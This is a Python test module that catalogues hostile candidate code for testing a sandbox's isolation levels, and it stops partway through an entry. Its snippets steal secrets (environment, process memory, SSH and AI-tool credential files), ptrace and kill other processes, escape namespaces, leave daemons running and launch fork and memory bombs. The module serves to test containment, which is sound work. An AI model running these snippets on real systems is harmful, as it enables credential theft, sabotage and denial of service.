"""Hostile candidates, what stops each of them at each level, and the generator of `docs/hostile.md`.

A candidate has done harm if files, servers or processes outside show it, if the engine says that it still ran when it
should have been ended, or if it has printed what it should not know: `SECRET` (which is in the environment, the memory,
the home folder and the shared memory of others) or one of the numbers of `World.knows`. No error that it prints counts
for it. `DONE` is left to what has no outside: its own process, and settings of the machine that no test may change. If
a level is missing from `stopped`, the test requires the harm, so the table is true in both directions.
`python -m tests.integration.kernels.attacks` writes the page.
"""

from dataclasses import dataclass, field
from pathlib import Path

from tests.integration.siblings import LEVELS

PAGE = Path(__file__).resolve().parents[3] / "docs" / "hostile.md"
SECRET = "tr0ub4dor-and-3"

PRELUDE = """
import contextlib, ctypes, glob, hashlib, mmap, os, signal, socket, stat, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
given = {given!r}
halves = {halves!r}
into, out = os.pipe()
file = None  # the lock of an earlier one ends
def attempt(function, *arguments):
    try:
        return function(*arguments)
    except (OSError, ValueError) as error:
        return repr(error)
def read(path):
    with open(path, "rb") as file:
        return file.read(10**6)
def own_first():
    return read("/proc/1/cmdline").split(bytes(1))[0].endswith((b"bwrap", b"explora-branch"))
def write(path):
    with open(path, "ab") as file:
        return file.write(b"changed")
def search(pid):
    with open(f"/proc/{{pid}}/maps") as maps, open(f"/proc/{{pid}}/mem", "rb", 0) as memory:
        areas = [line.split()[0].split("-") for line in maps if " rw" in line]
        for first, last in [(int(area[0], 16), int(area[1], 16)) for area in areas]:
            with contextlib.suppress(OSError, OverflowError, ValueError, MemoryError):
                memory.seek(first)
                parts = memory.read(min(last - first, 2**26)).split(halves[0])
                if any(part.startswith(halves[1]) for part in parts[1:]):
                    return halves[0] + halves[1]
    return b"not found"
"""
"""`halves` of the secret: put together, a candidate would find it in its own memory."""


@dataclass(frozen=True)
class Attack:
    """A candidate. Its code can use the dictionary `given`: what a clever author would know or guess."""

    group: str
    what: str
    code: str
    stopped: dict = field(default_factory=dict)
    """What stops it, for each level that does."""
    seconds: float = 8.0
    needs: str = ""
    """Python expression for whether the machine allows it outside a branch; if not, being stopped proves nothing."""
    root_only: bool = False
    """Whether the system refuses it to an ordinary user, candidate or not."""
    alone: bool = False
    """Whether it may change or fill its own process, which then must not be shared with other attacks."""
    lasting: bool = False
    """Whether it has done harm if it comes to its end: it keeps what it has taken for longer than it should live."""

    def stopped_at(self, level, *, user):
        """What stops it, for root or for an ordinary user; empty if nothing does."""
        return self.stopped.get(level, "") or (_NO_RIGHT if user and self.root_only else "")


def _at(**means):
    """Means by level: `mounts` sets both levels that replace paths, `every` all levels that are not named."""
    every, mounts = means.pop("every", ""), means.pop("mounts", "")
    found = dict.fromkeys(LEVELS, every) if every else {}
    if mounts:
        found |= {"rerun-bubblewrap": mounts, "fork-namespaces": mounts}
    found |= {name.replace("_", "-"): text for name, text in means.items()}
    return {name: found[name] for name in LEVELS if found.get(name)}


_NO_RIGHT = "only root may"
_HIDDEN = "hidden"
_OWN = "own processes"
_READ_ONLY = "read-only files"
_OVERLAID = "hidden under a copy"
_MASKED = "masked"
_OVER = "own overlay"
_NET = "own network"
_LANDLOCK = "Landlock"
_CAPS = "no capabilities"
_FILTER = "system call filter"
_WATCHED = "monitored from outside"
_ADOPTED = "adopted, killed by id"
_LISTED = (".ssh/id_ed25519", ".netrc")
_NOT_LISTED = (
    ".claude/credentials.json",
    ".codex/auth.json",
    ".composer/auth.json",
    ".local/share/jupyter/notebook_secret",
    ".cache/huggingface/stored_tokens",
    ".bashrc",
    ".Xauthority",
    "notes.txt",
)
HOME_FILES = (*_LISTED, *_NOT_LISTED)
"""All contain the secret."""
_MAKES_SOCKETS = "not socket.socket({}).close()"
_HAS_CAPABILITY = "int(Path('/proc/self/status').read_text().split('CapEff:')[1].split()[0], 16) >> {} & 1"

_IN_32_BIT = r"""
area = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)  # below 4 GB
area[:20] = bytes.fromhex('5389f889f34189c889d14489c2cd805bc3000000')  # the arguments into registers, `int 0x80`
area[64:72] = struct.pack('=HH4s', 2, socket.htons(given['tcp']), socket.inet_aton('127.0.0.1'))
start = ctypes.addressof(ctypes.c_char.from_buffer(area))
call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_int] * 4)(start)
s = call(359, 2, 1, 0)  # socket
call(362, s, start + 64, 16)  # connect
"""

ATTACKS = {
    "key-environment": Attack(
        "secrets",
        "read the key in its own environment",
        "print(dict(os.environ), read('/proc/self/environ'))",
        _at(every="scrubbed environment"),
    ),
    "key-memory": Attack(
        "secrets",
        "find the key in its own memory",
        "print(search('self'))",
        _at(every="not in memory"),
        alone=True,
    ),
    "environ-of-others": Attack(
        "secrets",
        "read the environment of other processes",
        "for path in glob.glob('/proc/[0-9]*/environ'): print(attempt(read, path))",
        _at(mounts=_OWN, fork_landlock=_LANDLOCK),
    ),
    "memory-of-others": Attack(
        "secrets",
        "read the memory of the user's process through `/proc`",
        "print(attempt(search, given['victim']))",
        _at(mounts=_OWN, fork_landlock=_LANDLOCK),
    ),
    "ptrace": Attack(
        "secrets",
        "trace the user's process",
        "if libc.ptrace(16, given['victim'], 0, 0) == 0:\n"
        "    os.waitpid(given['victim'], 0x40000000); libc.ptrace(17, given['victim'], 0, 0); print('DONE')",
        _at(every=_FILTER, mounts=_OWN),
    ),
    "ptrace-first": Attack(
        "secrets",
        "trace the first process of its namespace",
        "if own_first() and libc.ptrace(16, 1, 0, 0) == 0:\n"
        "    os.waitpid(1, 0x40000000); libc.ptrace(17, 1, 0, 0); print('DONE')",
        _at(every="does not exist", mounts=_FILTER),
    ),
    "credentials": Attack(
        "secrets",
        "read credentials in the home folder",
        f"for name in {_LISTED}: print(attempt(read, f'{{given[\"home\"]}}/{{name}}'))",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "unlisted": Attack(
        "secrets",
        "read anything else in the home folder that the candidate does not need",
        f"for name in {_NOT_LISTED}: print(attempt(read, f'{{given[\"home\"]}}/{{name}}'))",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "keyring": Attack(
        "secrets",
        "read a key from the session's keyring",
        "found = libc.syscall(given['keyctl'], 10, -3, b'user', given['mark'].encode(), 0)\n"
        "buffer = ctypes.create_string_buffer(99)\n"
        "print(found, libc.syscall(given['keyctl'], 11, found, buffer, 99, 0), buffer.value)",
        _at(every=_FILTER),
        needs="given['has-key']",
    ),
    "dotenv": Attack(
        "secrets",
        "read a `.env` in the working directory",
        "print(attempt(read, '.env'), attempt(read, f'{given[\"workdir\"]}/.env'))",
        _at(mounts="not in the copy", fork_landlock=_LANDLOCK),
    ),
    "keys-of-project": Attack(
        "secrets",
        "read a private key and a `prod.env` in the working directory",
        "for name in ('prod.env', 'server.pem'):\n"
        "    print(attempt(read, name), attempt(read, f'{given[\"workdir\"]}/{name}'))",
        _at(mounts="not in the copy", fork_landlock=_LANDLOCK),
    ),
    "notes": Attack(
        "secrets",
        "read the user's files outside the home folder",
        "print(read(f'{given[\"outside\"]}/notes.txt'))",
    ),
    "shared-memory": Attack(
        "secrets",
        "attach to shared memory of others",
        "from multiprocessing import resource_tracker, shared_memory\n"
        "memory = shared_memory.SharedMemory(given['shared'])\n"
        "resource_tracker.unregister(memory._name, 'shared_memory'); print(bytes(memory.buf[:99]))",
        _at(mounts="own shared memory", fork_landlock=_LANDLOCK),
    ),
    "shared-memory-file": Attack(
        "secrets",
        "read shared memory of others as a file",
        "print(attempt(read, f'/dev/shm/{given[\"shared\"]}'))",
        _at(mounts="own shared memory", fork_landlock=_LANDLOCK),
    ),
    "system-v": Attack(
        "secrets",
        "attach to System V shared memory of others",
        "libc.shmat.restype = ctypes.c_void_p; at = libc.shmat(given['system-v'], None, 4096)\n"
        "print(ctypes.string_at(at, 99) if at not in (None, 2**64 - 1) else 'refused')",
        _at(every=_FILTER, mounts="own IPC"),
    ),
    "files-of-siblings": Attack(
        "secrets",
        "read what another branch has written",
        "for path in glob.glob('/tmp/xplora-*/**/by-sibling.txt', recursive=True): print(attempt(read, path))\n"
        "for path in glob.glob('/proc/[0-9]*/cwd/by-sibling.txt'): print(attempt(read, path))",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "command-lines": Attack(
        "secrets",
        "read the command lines of other processes",
        "for path in glob.glob('/proc/[0-9]*/cmdline'): print(attempt(read, path))",
        _at(mounts=_OWN),
    ),
    "names-watched": Attack(
        "secrets",
        "learn the names of files in the home folder while they are used, by watching it",
        "watch = libc.inotify_init(); libc.inotify_add_watch(watch, given['home'].encode(), 0xFFF)\n"
        "os.set_blocking(watch, False); time.sleep(1.5)\n"
        "print(attempt(os.read, watch, 9999))",
        _at(mounts=_HIDDEN, fork_landlock=_FILTER),
    ),
    "names-guessed": Attack(
        "secrets",
        "learn whether a file of a guessed name is in the home folder, its size and its time",
        "print(os.stat(f'{given[\"home\"]}/.netrc').st_mtime_ns)",
        _at(mounts=_HIDDEN),
    ),
    "disk": Attack(
        "secrets",
        "read the machine's disk below its files",
        "print(hashlib.sha256(read(given['disk'])[:512]).hexdigest())",
        _at(mounts="own `/dev`", fork_landlock=_LANDLOCK),
        needs="given['disk'] and os.access(given['disk'], os.R_OK)",
        root_only=True,
    ),
    "descriptors": Attack(
        "secrets",
        "read or write through descriptors left open",
        "for fd in os.listdir('/proc/self/fd'):\n"
        "    for way in ('', f'/../../../../../..{given[\"home\"]}/.netrc'):\n"
        "        with contextlib.suppress(OSError):\n"
        "            if stat.S_ISREG(os.stat(f'/proc/self/fd/{fd}{way}').st_mode):\n"
        "                print(read(f'/proc/self/fd/{fd}{way}')[:999])",
        _at(every="none left open"),
        alone=True,
    ),
    "root-of-others": Attack(
        "secrets",
        "go through `/proc/PID/root` of other processes",
        "for pid in (1, os.getppid(), given['victim'], given['engine']):\n"
        "    print(attempt(read, f'/proc/{pid}/root{given[\"home\"]}/.netrc'))",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "write-home": Attack(
        "files",
        "write in the home folder",
        "write(f'{given[\"home\"]}/notes.txt')",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "write-outside": Attack(
        "files",
        "write elsewhere",
        "write(f'{given[\"outside\"]}/notes.txt')",
        _at(mounts=_READ_ONLY, fork_landlock=_LANDLOCK),
    ),
    "delete": Attack(
        "files",
        "delete the user's file by its full path",
        "os.remove(f'{given[\"workdir\"]}/data.csv')",
        _at(mounts=_OVERLAID, fork_landlock=_LANDLOCK),
    ),
    "dots": Attack(
        "files",
        "write through `..`",
        "write('../' * 30 + f'{given[\"home\"]}/notes.txt')",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "symlink": Attack(
        "files",
        "write through a symbolic link",
        "os.symlink(f'{given[\"home\"]}/notes.txt', 'link'); write('link')",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "hard-link": Attack(
        "files",
        "write through a hard link",
        "for number, folder in enumerate((given['home'], given['beside'])):\n"
        "    attempt(os.link, f'{folder}/notes.txt', f'hard-{number}'); attempt(write, f'hard-{number}')",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "chmod": Attack(
        "files",
        "change the permissions of the user's file",
        "os.chmod(f'{given[\"outside\"]}/notes.txt', 0o666)",
        _at(mounts=_READ_ONLY),
    ),
    "chown": Attack(
        "files",
        "change the owner of the user's file, even to the same owner",
        "os.chown(f'{given[\"outside\"]}/notes.txt', os.getuid(), os.getgid())",
        _at(mounts=_READ_ONLY, fork_landlock=_FILTER),
    ),
    "xattr": Attack(
        "files",
        "attach an attribute to the user's file",
        "os.setxattr(f'{given[\"outside\"]}/notes.txt', 'user.mark', b'1')",
        _at(mounts=_READ_ONLY, fork_landlock=_FILTER),
        needs="not os.setxattr(given['outside'] + '/notes.txt', 'user.mark', b'0')",
    ),
    "utime": Attack(
        "files",
        "change the time of the user's file",
        "os.utime(f'{given[\"outside\"]}/notes.txt')",
        _at(mounts=_READ_ONLY),
    ),
    "fifo-home": Attack(
        "files",
        "write to a named pipe in the home folder",
        "os.write(os.open(f'{given[\"home\"]}/fifo', os.O_WRONLY | os.O_NONBLOCK), b'x')",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "fifo-outside": Attack(
        "files",
        "write to a named pipe elsewhere",
        "os.write(os.open(f'{given[\"outside\"]}/fifo', os.O_WRONLY | os.O_NONBLOCK), b'x')",
        _at(fork_landlock=_LANDLOCK),
    ),
    "fifo-project": Attack(
        "files",
        "write to a named pipe in the working directory, such as in `.git`",
        "os.write(os.open(f'{given[\"workdir\"]}/.git/fifo', os.O_WRONLY | os.O_NONBLOCK), b'x')",
        _at(mounts=_MASKED, fork_landlock=_LANDLOCK),
    ),
    "lock-home": Attack(
        "files",
        "lock a file in the home folder",
        "import fcntl; file = open(f'{given[\"home\"]}/notes.txt'); fcntl.flock(file, fcntl.LOCK_EX)",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
    ),
    "lock-copied": Attack(
        "files",
        "lock a file of the working directory that is copied",
        "import fcntl; file = open(f'{given[\"workdir\"]}/data.csv'); fcntl.flock(file, fcntl.LOCK_EX)",
        _at(mounts=_OVERLAID, fork_landlock=_LANDLOCK),
    ),
    "lock-borrowed": Attack(
        "files",
        "lock a file of the working directory that is too large to be copied",
        "import fcntl; file = open(f'{given[\"workdir\"]}/large.bin'); fcntl.flock(file, fcntl.LOCK_EX)",
        _at(fork_namespaces=_OVER, fork_landlock=_LANDLOCK),
    ),
    "lock-folder": Attack(
        "files",
        "lock a file in a folder of the working directory that is not copied, such as `.git`",
        "import fcntl; file = open(f'{given[\"workdir\"]}/.git/index'); fcntl.flock(file, fcntl.LOCK_EX)",
        _at(fork_namespaces=_OVER, fork_landlock=_LANDLOCK),
    ),
    "lock-outside": Attack(
        "files",
        "lock a file elsewhere",
        "import fcntl; file = open(f'{given[\"outside\"]}/notes.txt'); fcntl.flock(file, fcntl.LOCK_EX)",
    ),
    "lease": Attack(
        "files",
        "block other processes that open a file, by a lease on it",
        "import fcntl; file = open(f'{given[\"outside\"]}/notes.txt')\n"
        "signal.signal(signal.SIGIO, signal.SIG_IGN); fcntl.fcntl(file, 1024, fcntl.F_RDLCK)",
        _at(every=_FILTER),
    ),
    "interpreter": Attack(
        "files",
        "leave a file among the installed libraries",
        "write(given['library'])",
        _at(mounts=_READ_ONLY, fork_landlock=_LANDLOCK),
        needs="os.access(os.path.dirname(given['library']), os.W_OK)",
    ),
    "tmp": Attack(
        "files",
        "leave something in `/tmp`",
        "write(given['tmp'])",
        _at(mounts="own `/tmp`", fork_landlock=_LANDLOCK),
    ),
    "core-pattern": Attack(
        "machine",
        "set `core_pattern`",
        "path = '/proc/sys/kernel/core_pattern'; now = read(path)\n"
        "with open(path, 'wb') as file: file.write(now)\nprint('DONE')",
        _at(mounts="read-only `/proc`", fork_landlock=_LANDLOCK),
        needs="os.access('/proc/sys/kernel/core_pattern', os.W_OK)",
        root_only=True,
    ),
    "sysrq": Attack(
        "machine",
        "open `sysrq-trigger`",
        "open('/proc/sysrq-trigger', 'wb').close(); print('DONE')",
        _at(mounts="read-only `/proc`", fork_landlock=_LANDLOCK),
        needs="os.access('/proc/sysrq-trigger', os.W_OK)",
        root_only=True,
    ),
    "device": Attack(
        "machine",
        "make a device",
        "os.mknod('log', stat.S_IFCHR | 0o600, os.makedev(1, 11))\n"
        "os.close(os.open('log', os.O_RDONLY | os.O_NONBLOCK)); print('DONE')",
        _at(mounts=_CAPS, fork_landlock=_CAPS),
        needs=_HAS_CAPABILITY.format(27),
        root_only=True,
    ),
    "device-elsewhere": Attack(
        "machine",
        "write to a device through a file outside `/dev`",
        "with open(given['device'], 'wb', 0) as file: file.write(given['mark'].encode() + b'\\n')",
        _at(mounts="devices in `/dev` alone", fork_landlock=_LANDLOCK),
        needs="given['device']",
        root_only=True,
    ),
    "device-read": Attack(
        "machine",
        "read a device through a file outside `/dev`",
        "with open(given['zeros'], 'rb', 0) as file: assert file.read(9) == bytes(9); print('DONE')",
        _at(mounts="devices in `/dev` alone"),
        needs="given['device']",
        root_only=True,
    ),
    "raise-limits": Attack(
        "machine",
        "raise its own limits",
        "import resource; resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY,) * 2); print('DONE')",
        _at(mounts=_CAPS, fork_landlock=_CAPS),
        needs=_HAS_CAPABILITY.format(24),
        root_only=True,
        alone=True,
    ),
    "remount": Attack(
        "machine",
        "remount the files as writable, or unmount what hides them",
        "libc.mount(None, b'/', None, 32 | 4096, None)\n"
        "for name in ('/.netrc', '/.ssh', ''): libc.umount2(given['home'].encode() + name.encode(), 2)\n"
        "attempt(write, f'{given[\"home\"]}/notes.txt'); print(attempt(read, f'{given[\"home\"]}/.netrc'))",
        _at(mounts=_CAPS, fork_landlock=_LANDLOCK),
        alone=True,
    ),
    "own-namespaces": Attack(
        "machine",
        "do the same in its own user and mount namespaces",
        "if os.fork() == 0:\n"
        "    libc.unshare(0x10020000)\n"
        "    libc.mount(None, b'/', None, 32 | 4096, None)\n"
        "    for name in ('/.netrc', '/.ssh', ''): libc.umount2(given['home'].encode() + name.encode(), 2)\n"
        "    attempt(write, f'{given[\"home\"]}/notes.txt')\n"
        "    os.write(out, str(attempt(read, f'{given[\"home\"]}/.netrc')).encode())\n"
        "    os._exit(0)\n"
        "os.wait(); print(os.read(into, 999))",
        _at(mounts="locked mounts", fork_landlock=_LANDLOCK),
    ),
    "own-proc": Attack(
        "machine",
        "set `core_pattern` through a `/proc` mounted in its own namespaces",
        "if os.fork() == 0:\n"
        "    try:\n"
        "        libc.unshare(0x30020000)\n"
        "        if os.fork() == 0:\n"
        "            os.makedirs('proc'); libc.mount(b'proc', b'proc', b'proc', 0, None)\n"
        "            os.close(os.open('proc/sys/kernel/core_pattern', os.O_WRONLY)); os.write(out, b'DONE')\n"
        "        else: os.wait()\n"
        "    finally: os._exit(0)\n"
        "os.wait(); os.set_blocking(into, False); print(attempt(os.read, into, 99))",
        _at(every=_FILTER, mounts="no user namespaces"),
        root_only=True,
    ),
    "cgroup": Attack(
        "machine",
        "end processes through a file system of control groups mounted in its own namespaces",
        "if os.fork() == 0:\n"
        "    try:\n"
        "        libc.unshare(0x12020000)\n"
        "        os.makedirs('groups'); libc.mount(b'cgroup2', b'groups', b'cgroup2', 0, None)\n"
        "        os.close(os.open('groups/cgroup.procs', os.O_WRONLY)); os.write(out, b'DONE')\n"
        "    finally: os._exit(0)\n"
        "os.wait(); os.set_blocking(into, False); print(attempt(os.read, into, 99))",
        _at(every=_FILTER, mounts="no user namespaces"),
    ),
    "setns": Attack(
        "machine",
        "enter the namespaces of another process",
        "for pid in (1, os.getppid(), given['victim']):\n"
        "    for kind in ('user', 'mnt'):\n"
        "        with contextlib.suppress(OSError): libc.setns(os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY), 0)\n"
        "print(attempt(read, f'{given[\"home\"]}/.netrc'))",
        _at(mounts=_CAPS, fork_landlock=_LANDLOCK),
        alone=True,
    ),
    "tcp": Attack(
        "network",
        "reach a server on this machine over TCP",
        "socket.create_connection(('127.0.0.1', given['tcp']), timeout=2).send(b'x')",
        _at(mounts=_NET, fork_landlock=_LANDLOCK),
    ),
    "tcp-outside": Attack(
        "network",
        "reach a server over TCP at an address of the machine",
        "socket.create_connection((given['address'], given['tcp']), timeout=2).send(b'x')",
        _at(mounts=_NET, fork_landlock=_LANDLOCK),
    ),
    "tcp-data-first": Attack(
        "network",
        "reach a server over TCP without connecting first (TCP Fast Open)",
        "for family, port in ((socket.AF_INET, given['tcp']), (socket.AF_INET6, given['tcp6'])):\n"
        "    address = ('127.0.0.1' if family == socket.AF_INET else '::1', port)\n"
        "    with contextlib.suppress(OSError), socket.socket(family) as s:\n"
        "        s.settimeout(1); s.sendto(b'x', 1 << 29, address)\n"
        "    with contextlib.suppress(OSError), socket.socket(family) as s:\n"
        "        s.settimeout(1); s.sendmsg([b'x'], [], 1 << 29, address)\n"
        "    with contextlib.suppress(OSError), socket.socket(family) as s:\n"
        "        s.settimeout(1); s.setsockopt(socket.IPPROTO_TCP, 30, 1); s.connect(address); s.send(b'x')",
        _at(mounts=_NET, fork_landlock=_FILTER),
    ),
    "tcp-port": Attack(
        "network",
        "open a port for others without naming one",
        "s = socket.socket(); s.listen(); print('port', s.getsockname()[1])",
        _at(mounts=_NET, fork_landlock=_FILTER),
        alone=True,
    ),
    "tcp-32-bit": Attack(
        "network",
        "reach a server over TCP through the system calls of 32-bit programs",
        _IN_32_BIT,
        _at(every=_FILTER, mounts=_NET),
        needs="os.uname().machine == 'x86_64'",
        alone=True,
    ),
    "udp": Attack(
        "network",
        "send UDP to a server on this machine",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', given['udp']))",
        _at(mounts=_NET, fork_landlock=_FILTER),
    ),
    "mptcp": Attack(
        "network",
        "reach a server on this machine over Multipath TCP",
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\n"
        "s.settimeout(2); s.connect(('127.0.0.1', given['tcp'])); s.send(b'x')",
        _at(every=_FILTER, mounts=_NET),
        needs=_MAKES_SOCKETS.format("2, 1, 262"),
    ),
    "vsock": Attack(
        "network",
        "open a socket to the host of this virtual machine",
        "socket.socket(40, socket.SOCK_STREAM); print('DONE')",
        _at(every=_FILTER),
        needs=_MAKES_SOCKETS.format("40, 1"),
    ),
    "abstract": Attack(
        "network",
        "reach an abstract UNIX socket",
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0' + given['abstract']); s.send(b'x')",
        _at(mounts=_NET, fork_landlock=_LANDLOCK),
    ),
    "abstract-datagram": Attack(
        "network",
        "send to an abstract UNIX socket without connecting",
        "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'x', '\\0' + given['abstract-datagram'])",
        _at(mounts=_NET, fork_landlock=_LANDLOCK),
    ),
    "unix-tmp": Attack(
        "network",
        "reach a UNIX socket in `/tmp`",
        "s = socket.socket(socket.AF_UNIX); s.connect(given['unix-tmp']); s.send(b'x')",
        _at(mounts="own `/tmp`"),
    ),
    "unix-home": Attack(
        "network",
        "reach a UNIX socket in the home folder",
        "os.chdir(given['home']); s = socket.socket(socket.AF_UNIX); s.connect('server.sock'); s.send(b'x')",
        _at(mounts=_HIDDEN),
        alone=True,
    ),
    "unix-project": Attack(
        "network",
        "reach a UNIX socket in the working directory, such as in `.git`",
        "os.chdir(given['workdir'] + '/.git'); s = socket.socket(socket.AF_UNIX); s.connect('s'); s.send(b'x')",
        _at(mounts=_MASKED),
        alone=True,
    ),
    "unix-outside": Attack(
        "network",
        "reach a UNIX socket elsewhere, by its path",
        "os.chdir(given['outside']); s = socket.socket(socket.AF_UNIX); s.connect('server.sock'); s.send(b'x')",
        alone=True,
    ),
    "kernel": Attack(
        "network",
        "run code in the user's kernel by its connection file",
        "from jupyter_client import BlockingKernelClient\n"
        "client = BlockingKernelClient(connection_file=given['connection']); client.load_connection_file()\n"
        'client.start_channels(); client.execute(f\'open({given["kernel-file"]!r}, "a").write("by the candidate")\')\n'
        "time.sleep(1.5); client.stop_channels()",
        _at(mounts=_HIDDEN, fork_landlock=_LANDLOCK),
        alone=True,
    ),
    "kill-kernel": Attack(
        "processes",
        "kill the user's kernel",
        "os.kill(given['victim'], 9)",
        _at(mounts=_OWN, fork_landlock=_LANDLOCK),
    ),
    "kill-engine": Attack(
        "processes",
        "kill the engine",
        "os.kill(given['engine'], 9)",
        _at(mounts=_OWN, fork_landlock=_LANDLOCK),
    ),
    "kill-parent": Attack(
        "processes",
        "kill its parent process",
        "if os.getppid() != 1: os.kill(os.getppid(), 9); time.sleep(1)",
        _at(mounts=_OWN, fork_landlock="does not exist", fork_limits="does not exist"),
    ),
    "kill-sibling": Attack(
        "processes",
        "kill a sibling",
        "os.kill(given['sibling'], 9)",
        _at(mounts=_OWN, fork_landlock=_LANDLOCK),
    ),
    "signals": Attack(
        "processes",
        "kill the user's kernel by other calls than `kill`",
        "pid = given['victim']; libc.tgkill(pid, pid, 9); libc.sigqueue(pid, 9, None)\n"
        "attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), 9))\n"
        "import fcntl; a, b = socket.socketpair()\n"
        "for command, value in ((fcntl.F_SETOWN, pid), (10, 9), (fcntl.F_SETFL, os.O_ASYNC)):\n"
        "    attempt(fcntl.fcntl, a, command, value)\n"
        "b.send(b'x')",
        _at(mounts=_OWN, fork_landlock=_LANDLOCK),
    ),
    "limits-of-others": Attack(
        "processes",
        "set resource limits of the user's kernel",
        "import resource; pid, what = given['victim'], resource.RLIMIT_NOFILE\n"
        "soft, hard = resource.prlimit(pid, what); resource.prlimit(pid, what, (soft - 1, hard))",
        _at(every=_FILTER, mounts=_OWN),
    ),
    "priority-of-others": Attack(
        "processes",
        "set the priority of the user's kernel",
        "pid = given['victim']; os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(0, pid) + 1)",
        _at(every=_FILTER, mounts=_OWN),
    ),
    "priority-of-all": Attack(
        "processes",
        "set the priority of all processes of the user",
        "os.setpriority(os.PRIO_USER, 0, os.getpriority(os.PRIO_USER, 0) + 1)",
        _at(every=_FILTER, mounts=_OWN),
        alone=True,
    ),
    "disk-priority": Attack(
        "processes",
        "set the priority of the user's kernel on the disk",
        "import psutil; psutil.Process(given['victim']).ionice(psutil.IOPRIO_CLASS_BE, 7)",
        _at(every=_FILTER, mounts=_OWN),
    ),
    "processors-of-others": Attack(
        "processes",
        "choose the processors of the user's kernel",
        "os.sched_setaffinity(given['victim'], [min(os.sched_getaffinity(given['victim']))])",
        _at(every=_FILTER, mounts=_OWN),
        needs="len(os.sched_getaffinity(0)) > 1",
    ),
    "schedule-of-others": Attack(
        "processes",
        "let the user's kernel run only when nothing else does",
        "os.sched_setscheduler(given['victim'], os.SCHED_IDLE, os.sched_param(0))",
        _at(every=_FILTER, mounts=_OWN),
    ),
    "schedule-by-attributes": Attack(
        "processes",
        "do the same by the call for attributes",
        "libc.syscall({'x86_64': 314, 'aarch64': 274}.get(os.uname().machine, -1), given['victim'],\n"
        "    struct.pack('IIQiIQQQ', 48, 5, 0, 0, 0, 0, 0, 0), 0)",
        _at(every=_FILTER, mounts=_OWN),
        needs="os.uname().machine in ('x86_64', 'aarch64')",
    ),
    "sacrifice": Attack(
        "processes",
        "name the user's kernel as the first to end when memory is short",
        "with open(f'/proc/{given[\"victim\"]}/oom_score_adj', 'w') as file: file.write('999')",
        _at(mounts=_OWN, fork_landlock=_LANDLOCK),
    ),
    "lifeline": Attack(
        "processes",
        "outlive the engine, by opening the other end of its lifeline",
        "if own_first(): open('/proc/1/fd/0', 'wb').close(); print('DONE')",
        _at(every="does not exist", mounts="a socket"),
    ),
    "line": Attack(
        "processes",
        "write garbage to all of its open sockets",
        "for fd in os.listdir('/proc/self/fd'):\n"
        "    with contextlib.suppress(OSError):\n"
        "        if stat.S_ISSOCK(os.fstat(int(fd)).st_mode):\n"
        "            os.set_blocking(int(fd), False); os.write(int(fd), b'\\xff' * 999)\n"
        "time.sleep(1)",
        _at(every="only its own end"),
        seconds=3,
        alone=True,
    ),
    "daemon": Attack(
        "processes",
        "leave a daemon behind",
        "if os.fork() == 0:\n    os.setsid()\n"
        "    if os.fork() == 0:\n        os.execv('/bin/sleep', ['sleep', given['mark']])\n"
        "    os._exit(0)\nos.wait()",
        _at(every=_ADOPTED, mounts=_OWN),
        alone=True,
    ),
    "daemon-of-parent": Attack(
        "processes",
        "leave a daemon behind that is a child of its own parent",
        "libc.syscall.restype = ctypes.c_long; call = {'x86_64': 56, 'aarch64': 220}.get(os.uname().machine, -1)\n"
        "if libc.syscall(call, 0x8000 | signal.SIGCHLD, 0, 0, 0, 0) == 0:\n"
        "    os.setsid(); os.execv('/bin/sleep', ['sleep', given['mark']])",
        _at(every=_FILTER, mounts=_OWN),
        needs="os.uname().machine in ('x86_64', 'aarch64')",
        alone=True,
    ),
    "fork-bomb": Attack(
        "exhaustion",
        "fork endlessly",
        "for _ in range(7): os.fork()\ntime.sleep(50)",
        _at(every=_WATCHED),
        seconds=60,
        alone=True,
        lasting=True,
    ),
    "memory-bomb": Attack(
        "exhaustion",
        "use all memory, in many processes",
        "for _ in range(3): os.fork()\nkept = [bytearray(b'1') * 10**8 for _ in range(2)]\ntime.sleep(50)",
        _at(every=_WATCHED),
        seconds=60,
        alone=True,
        lasting=True,
    ),
    "memory-in-files": Attack(
        "exhaustion",
        "use all memory, in files without a name (`memfd_create`)",
        "files = [os.memfd_create('m') for _ in range(100)]\n"
        "for file in files: os.write(file, bytes(8 * 10**6))\ntime.sleep(50)",
        _at(every=_FILTER),
        seconds=60,
        alone=True,
        lasting=True,
    ),
    "memory-shared": Attack(
        "exhaustion",
        "use all memory, shared by two processes",
        "shared = mmap.mmap(-1, 8 * 10**8); child = os.fork()\n"
        "for start in range(0, len(shared), 4096): shared[start] = 1\ntime.sleep(50)",
        _at(every=_WATCHED),
        seconds=60,
        alone=True,
        lasting=True,
    ),
    "memory-left": Attack(
        "exhaustion",
        "use all memory, written by processes that are gone",
        "shared = mmap.mmap(-1, 8 * 10**8)\n"
        "for part in range(8):\n"
        "    if os.fork() == 0:\n"
        "        for start in range(part * 10**8, (part + 1) * 10**8, 4096): shared[start] = 1\n"
        "        os._exit(0)\n"
        "    os.wait()\ntime.sleep(50)",
        _at(every=_WATCHED),
        seconds=60,
        alone=True,
        lasting=True,
    ),
    "memory-system-v": Attack(
        "exhaustion",
        "use all memory, in System V segments that no process maps",
